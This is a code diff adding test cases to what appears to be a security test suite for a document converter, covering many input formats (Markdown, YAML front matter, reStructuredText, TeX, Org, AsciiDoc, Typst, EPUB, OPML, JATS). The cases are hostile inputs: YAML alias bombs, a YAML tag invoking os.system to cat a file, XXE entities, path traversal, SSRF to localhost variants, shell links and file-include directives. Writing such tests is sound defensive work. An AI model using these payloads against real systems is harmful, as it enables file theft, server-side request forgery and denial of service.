@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+import itertools
 from pathlib import Path
 
-from hostile.attack import REFUSED, Make, fill, package, row
+from hostile.attack import OK, REFUSED, Make, fill, package, row
 from hostile.traps import Traps
 
 _BOOK = '<book xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude">'
@@ -46,6 +47,10 @@ def epub(page: str, *, manifest: str = "", package_path: str = "package.opf") ->
 def _page(body: str) -> str:
     return f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'
 
+
+_ALIASES = "a0: &a0 ha\n" + "".join(
+    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
+)
 
 ATTACKS = (
     row(
@@ -215,5 +220,152 @@ ATTACKS = (
         "epub-xxe",
         "epub > html",
         epub('<!DOCTYPE html [<!ENTITY leak SYSTEM "{uri}">]>' + _page("<p>Hello &leak;</p>")),
+    ),
+    row("md-yaml-laughs", "md > html docx", f"---\n{_ALIASES}title: *a9\n---\n\nHello\n", *REFUSED),
+    row(
+        "md-yaml-types",
+        "md > html",
+        "---\n? !!binary x\n: !include {file}\n<<: !!python/object/"
+        "apply:os.system ['cat {file}']\ntitle: !!js/function '{http}'\n---\n\nHello\n",
+    ),
+    row("md-yaml-deep", "md > html", f"---\ntitle: {'[' * 20_000}\n---\n\nHello\n", *REFUSED),
+    row(
+        "opml-yaml-laughs",
+        "opml > html",
+        '<opml version="2.0"><head><title>x</title></head><body><outline text="Hello" _note="'
+        + f"---\n{_ALIASES}title: *a9\n---\n".replace("&", "&amp;").replace("\n", "&#10;")
+        + '"/></body></opml>',
+        OK,
+    ),
+    row(
+        "md-data-sheet",
+        "md > html epub",
+        '# Hello\n\n<link rel="stylesheet" href="data:text/css,@import url(\'{uri.css}\');'
+        'p{background:url({file.png})}"><img src="data:text/html,<img src=\'{uri.png}\'>">'
+        "<script src=\"data:text/javascript,import('{http}')\"></script>",
+    ),
+    row(
+        "md-parents",
+        "md > html docx epub",
+        "# Hello\n\n![x](../../secret.png) ![y](..\\..\\secret.png) ![z](/proc/self/cwd/../../"
+        "secret.png) ![v](file://localhost{file.png}) ![w](file:{file.png})\n",
+    ),
+    row(
+        "md-everywhere",
+        "md > html docx",
+        "# Hello\n\n![a](//127.0.0.1:{port}/x.png) ![b](ftp://127.0.0.1:{port}/x.png) "
+        "![c](gopher://127.0.0.1:{port}/x) ![d](http://[::ffff:127.0.0.1]:{port}/x.png) "
+        "![e](HTTP://2130706433:{port}/x.png) ![f](http://localhost:{port}/x.png)\n",
+    ),
+    row(
+        "html-refresh",
+        "html > docx epub md",
+        '<!DOCTYPE html><base href="{uri}"><meta http-equiv="refresh" content="0; url={http}">'
+        '<p>Hello <img src="secret.png" srcset="{http}.png 2x"><video poster="{uri.png}"></video>'
+        '<embed src="{uri}"><math href="{uri}"/><input type="image" src="{http}"></p>',
+    ),
+    row(
+        "rst-substitutions",
+        "rst > html docx",
+        "Hello\n\n.. |a| include:: {file}\n.. |b| image:: {file.png}\n.. |c| raw:: html\n   :file: "
+        "{file}\n.. |d| replace:: |d| |d|\n\n|a| |b| |c| |d|\n\n.. figure:: {uri.png}\n\n"
+        ".. code::\n"
+        "   :include: {file}\n\n.. math::\n   :file: {file}\n\n.. stylesheet: {file.css}\n",
+    ),
+    row(
+        "rst-substitution-laughs",
+        "rst > html",
+        "".join(f".. |a{n}| replace:: {f'|a{n - 1}| ' * 10}\n" for n in range(1, 10))
+        + ".. |a0| replace:: ha\n\n|a9|\n",
+    ),
+    row(
+        "tex-bibliography",
+        "tex > html docx",
+        "\\documentclass{article}\\usepackage[backend=biber]{biblatex}"
+        "\\addbibresource{{file.bib}}\\begin{document}Hello \\cite{leak} \\printbibliography "
+        "\\subfile{{file}} \\import{{folder}/}{secret} \\InputIfFileExists{{file.tex}}{}{} "
+        "\\pdffiledump{{file}} \\directlua{io.open('{file}')} \\href{run:{file}}{x}"
+        "\\end{document}\n",
+    ),
+    row(
+        "tex-environment-laughs",
+        "tex > html",
+        "".join(
+            rf"\newenvironment{{{one}}}{{"
+            + (rf"\begin{{{two}}}" * 8 + "}{" + rf"\end{{{two}}}" * 8 + "}\n")
+            for one, two in itertools.pairwise("abcdefghij")
+        )
+        + "\\begin{document}\\begin{a}x\\end{a}\\end{document}",
+    ),
+    row(
+        "org-citations",
+        "org > html docx",
+        "#+bibliography: {file.bib}\n#+cite_export: csl {file}\n#+INCLUDE: {uri} export html\n"
+        '#+HTML_HEAD: <link rel="stylesheet" href="{uri.css}"/>\n'
+        "* Hello [cite:@leak] [[attachment:../../secret.png]] [[shell:cat {file}]]\n"
+        "#+print_bibliography:\n#+TRANSCLUDE: [[{uri}]]\n",
+    ),
+    row("org-macro-circle", "org > html", "#+MACRO: a {{{a}}}{{{a}}}\n* Hello {{{a}}}\n"),
+    row(
+        "adoc-attributes",
+        "adoc > html docx",
+        "= Hello\n:includedir: {folder}\n:docinfo: shared\n:docinfodir: {folder}\n"
+        ":data-uri:\n:stylesheet: {file.css}\n:linkcss!:\n\nimage:{file.png}[]\n\n"
+        "include::{includedir}/secret.txt[]\n\n[source]\n----\ninclude::{file}[]\n----\n\n"
+        "audio::{http}[]\n\n,===\ninclude::{file.csv}[]\n,===\n",
+    ),
+    row(
+        "typst-packages",
+        "typst > html docx",
+        '#import "@preview/cetz:0.1.0": *\n#import "{file}": leak\n#bibliography("{file.bib}")\n'
+        '#let f = plugin("{file}")\n#raw(read("{file}"))\n#json("{file}") #yaml("{file}") '
+        '#xml("{file.xml}")\n= Hello @leak\n',
+    ),
+    row("typst-loop", "typst > html", "#let f(x) = f(f(x))\n#f(1)\n#while true [x]\n"),
+    row("adoc-attribute-circle", "adoc > html", "= Hello\n:a: {b}{b}\n:b: {a}{a}\n\n{a}\n"),
+    row(
+        "mediawiki-templates",
+        "mediawiki > html docx",
+        '{{{{:{file}}}}} {{#include:{http}}} <include src="{uri}"/> [[Media:{file}]] '
+        + "{{a|" * 2_000
+        + "x"
+        + "}}" * 2_000,
+    ),
+    row(
+        "ipynb-outputs",
+        "ipynb > html docx md",
+        '{"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["open('
+        '\'{file}\').read()"], "outputs": [{"output_type": "display_data", "metadata": {}, '
+        '"data": {"image/png": "{file.png}", "text/html": ["<img src=\'{uri.png}\'>"], '
+        '"image/svg+xml": ["<svg><image href=\'{uri.png}\'/></svg>"]}}]}], "metadata": {}, '
+        '"nbformat": 4, "nbformat_minor": 4}',
+    ),
+    row(
+        "opml-include",
+        "opml > md html",
+        '<opml version="2.0"><head><title>x</title></head><body><outline type="include" '
+        'text="Hello" url="{uri}"/><outline type="rss" text="x" xmlUrl="{http}" '
+        '_note="![x]({file.png})"/></body></opml>',
+    ),
+    row(
+        "jats-graphic",
+        "jats > html docx",
+        '<article xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/'
+        'XInclude"><front/><body><p>Hello <inline-graphic xlink:href="{uri.png}"/><graphic '
+        'xlink:href="{http}.png"/><xi:include href="{uri}" parse="text"/></p></body></article>',
+    ),
+    row(
+        "fb2-image",
+        "fb2 > html epub docx",
+        '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.'
+        'org/1999/xlink"><stylesheet type="text/css">@import url({uri.css});</stylesheet><body>'
+        "<section>"
+        '<p>Hello <image l:href="{uri.png}"/><image l:href="{http}.png"/></p></section></body>'
+        '<binary id="x" content-type="image/png">{file.png}</binary></FictionBook>',
+    ),
+    row(
+        "csv-pandoc",
+        "csv > md html rst",
+        "a,b\n![x]({file.png}),<img src={uri.png}>\n{{{file}}},.. include:: {file}\n",
     ),
 )
